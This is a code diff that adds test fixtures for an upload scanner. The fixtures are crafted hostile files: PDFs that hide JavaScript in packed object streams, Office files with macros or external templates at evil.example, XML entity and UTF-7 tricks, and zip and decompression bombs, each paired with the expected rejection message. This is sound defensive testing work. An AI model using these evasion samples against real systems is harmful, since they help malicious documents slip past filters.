@@ -27,6 +27,11 @@ function whiteSquare(side: number): Buffer {
 export async function hostileEvidence(): Promise<Hostile[]> {
   const [jpg, png] = [await photo(), await picture("png")];
   const packed = (content: string) => pdf("", `4 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream\n${deflateSync(Buffer.from(content)).toString("latin1")}\nendstream\nendobj\n`);
+  const flate = (content: string) => deflateSync(Buffer.from(content)).toString("latin1");
+  /** A list of objects under a dictionary of one's own. */
+  const list = (dictionary: string, content = flate("4 0 << /S /JavaScript >>")) => pdf("", `4 0 obj\n${dictionary}\nstream\n${content}\nendstream\nendobj\n`);
+  const template = (attributes: string) => office("docx", { name: "word/_rels/settings.xml.rels", content: relationships(`Type="${R}/attachedTemplate" Target="http://evil.example/t.dotm" ${attributes}`) });
+  const odd = /^PDF 文件的内部结构不正常/;
   const file = (name: string, fileName: string, bytes: Buffer, sentence: RegExp): Hostile => ({ name, fileName, bytes, sentence });
   return [
     file("a page named as a picture", "现场.jpg", Buffer.from("<!doctype html><script>alert(1)</script>"), /^文件的实际内容不是可以上传的类型/),
@@ -49,6 +54,18 @@ export async function hostileEvidence(): Promise<Hostile[]> {
     file("a PDF with a script spelled in codes", "a.pdf", pdf("/OpenAction << /S /#4aava#53cript >>"), /^PDF 文件中含有脚本/),
     file("a PDF with a script in a packed list", "a.pdf", packed("4 0 << /S /JavaScript >>"), /^PDF 文件中含有脚本/),
     file("a PDF whose packed list cannot be read", "a.pdf", pdf("", "4 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nnonsense\nendstream\n"), /^PDF 文件的内部结构不正常/),
+    file("a packed list behind a dictionary in its dictionary", "a.pdf", list("<< /N 1 /First 4 /Filter /FlateDecode /X << >> /Type /ObjStm >>"), /^PDF 文件中含有脚本/),
+    file("a packed list that does not say its type", "a.pdf", list("<< /N 1 /First 4 /Filter /FlateDecode >>"), /^PDF 文件中含有脚本/),
+    file("a packed list with the word endstream in it", "a.pdf", list("<< /Type /ObjStm /Filter /FlateDecode >>", deflateSync(Buffer.from("4 0 (endstream) << /S /JavaScript >>"), { level: 0 }).toString("latin1")), /^PDF 文件中含有脚本/),
+    file("a packed list that says it is not packed", "a.pdf", list("<< /Type /ObjStm /N 1 /First 4 >>"), odd),
+    file("a packed list behind a text that looks like one", "a.pdf", list("<< /Type /ObjStm /X (>> stream\n4 0 endstream) /Filter /FlateDecode >>"), odd),
+    file("a packed list behind a stream in its dictionary", "a.pdf", list("<< /Type /ObjStm /X << >> stream\n4 0 endstream /Filter /FlateDecode >>"), odd),
+    file("a list packed twice", "a.pdf", list("<< /Type /ObjStm /Filter [/FlateDecode /FlateDecode] >>", flate(flate("4 0 x"))), odd),
+    file("a list whose packing lies elsewhere", "a.pdf", list("<< /Type /ObjStm /Filter 9 0 R >>"), odd),
+    file("a list with more in its dictionary than is looked at", "a.pdf", list(`<< /Type /ObjStm /X [${"0 ".repeat(3000)}] /Filter /FlateDecode >>`), odd),
+    file("a packed list of gigabytes", "a.pdf", list("<< /Type /ObjStm /Filter /FlateDecode >>", deflateSync(Buffer.alloc(70_000_000, "4 0 ")).toString("latin1")), odd),
+    file("nothing but words that mark lists", "a.pdf", Buffer.from(`%PDF-1.7\n${"/ObjStm ".repeat(400_000)}stream\n endstream\n%%EOF`), odd),
+    file("more lists than any document has", "a.pdf", pdf("", "4 0 obj\n<</Type/ObjStm>>stream\n4 0 \nendstream\n".repeat(10_001)), odd),
     file("a PDF that starts a program", "a.pdf", pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), /^PDF 文件会启动其他程序/),
     file("a PDF with a file in it", "a.pdf", pdf("/Names << /EmbeddedFiles 9 0 R >>"), /^PDF 文件中嵌入了其他文件/),
     file("a document with macros", "报告.docm", office("docx", { name: "word/vbaProject.bin", content: OLE }), /^文件中含有宏/),
@@ -59,6 +76,14 @@ export async function hostileEvidence(): Promise<Hostile[]> {
     file("a workbook linked to another", "表.xlsx", office("xlsx", { name: "xl/externalLinks/externalLink1.xml", content: "<x/>" }), /^文件中含有指向其他文件的链接/),
     file("a document whose template lies elsewhere", "报告.docx", office("docx", { name: "word/_rels/settings.xml.rels", content: relationships(`Type="${R}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"`) }), /^文件引用了本机以外的模板/),
     file("relationships with entities", "报告.docx", office("docx", { name: "word/_rels/document.xml.rels", content: '<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>' }), /^Office 文件的内部结构不正常/),
+    file("a template elsewhere, spelled in codes", "报告.docx", template('TargetMode="Externa&#108;"'), /^Office 文件的内部结构不正常/),
+    file("a template elsewhere, behind a sign that looks like the end", "报告.docx", template('X="a>b" TargetMode="External"'), /^文件引用了本机以外的模板/),
+    file("a template elsewhere that is called a link beside", "报告.docx", template('x:Type="/hyperlink" TargetMode=\'External\''), /^文件引用了本机以外的模板/),
+    file("relationships that are no XML", "报告.docx", template("TargetMode=External"), /^Office 文件的内部结构不正常/),
+    file("relationships in another encoding", "报告.docx", office("docx", { name: "word/_rels/settings.xml.rels", content: '<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationships/>' }), /^Office 文件的内部结构不正常/),
+    file("nothing but beginnings of relationships", "报告.docx", office("docx", { name: "word/_rels/document.xml.rels", content: "<Relationship ".repeat(200_000) }), /^Office 文件的内部结构不正常/),
+    file("more relationships than any document has", "报告.docx", office("docx", { name: "word/_rels/document.xml.rels", content: relationships(`Target="${"x".repeat(4_000_000)}"`) }), /^Office 文件的内部结构不正常/),
+    file("a document that says in codes that it has macros", "报告.docx", zip([{ name: "[Content_Types].xml", content: "<Types><Override ContentType=\"macro&#69;nabled\"/></Types>" }, { name: "word/document.xml", content: "<d/>" }]), /^Office 文件的内部结构不正常/),
     file("a zip bomb", "炸.docx", office("docx", { name: "word/media/a.bin", content: Buffer.alloc(40_000_000) }), /^Office 文件的内部结构不正常/),
     file("parts that are larger than they say", "谎.docx", office("docx", { name: "word/media/a.bin", content: Buffer.alloc(900_000), size: 1000 }), /^Office 文件的内部结构不正常/),
     file("parts that declare gigabytes", "大.docx", office("docx", { name: "word/media/a.bin", content: "x", size: 3_000_000_000 }), /^Office 文件的内部结构不正常/),
